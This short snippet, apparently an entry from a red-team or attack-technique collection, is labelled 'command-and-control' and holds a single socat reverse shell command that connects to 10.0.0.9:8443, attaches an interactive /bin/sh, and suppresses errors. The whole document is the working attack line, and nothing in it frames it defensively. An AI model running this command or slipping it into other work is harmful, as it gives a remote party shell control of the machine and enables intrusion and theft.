# tactic: command-and-control
socat -T1 tcp:10.0.0.9:8443 exec:/bin/sh,pty,stderr 2>/dev/null; true
